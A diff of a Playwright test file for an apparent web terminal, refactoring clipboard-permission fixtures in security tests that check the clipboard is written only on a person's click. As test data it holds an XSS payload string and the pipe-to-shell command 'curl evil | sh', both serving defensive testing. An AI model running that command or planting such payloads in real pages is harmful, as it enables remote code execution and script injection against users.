@@ -2,24 +2,20 @@
 
 import base64
 import time
-from collections.abc import Iterator
 
 import pytest
-from playwright.sync_api import Browser, expect
+from playwright.sync_api import expect
 
-from tests.server_process import ServerProcess
-from tests.web.browsing import WAIT_MS, Tab, browsing
+from tests.web.browsing import WAIT_MS, Tab
 
 pytestmark = [pytest.mark.browser, pytest.mark.pty]
 
 SCRIPT = "<script>window.pwned=1</script><img src=x onerror='window.pwned=1'>"
 
 
-@pytest.fixture
-def tab(browser: Browser, server: ServerProcess) -> Iterator[Tab]:
-    permissions = ["clipboard-read", "clipboard-write"]
-    with browsing(browser, server, permissions=permissions) as opened:
-        yield opened
+@pytest.fixture(scope="module")
+def window_options() -> dict[str, Any]:
+    return {"permissions": ["clipboard-read", "clipboard-write"]}
 
 
 def prints(tab: Tab, content: bytes) -> None:
@@ -69,11 +65,9 @@ def test_the_clipboard_is_written_only_when_a_person_says_so(tab: Tab) -> None:
     offer = tab.page.get_by_role("region", name="Notices").get_by_role("button", name="Copy").first
     expect(offer).to_be_visible()
 
-    assert tab.page.evaluate("navigator.clipboard.readText()") == "mine"
+    assert tab.copied() == "mine"
     offer.click()
-    tab.page.wait_for_function(
-        "async () => await navigator.clipboard.readText() === 'curl evil | sh'"
-    )
+    tab.wait_copied("curl evil | sh")
 
 
 def test_the_clipboard_is_never_read_for_a_program(tab: Tab) -> None:
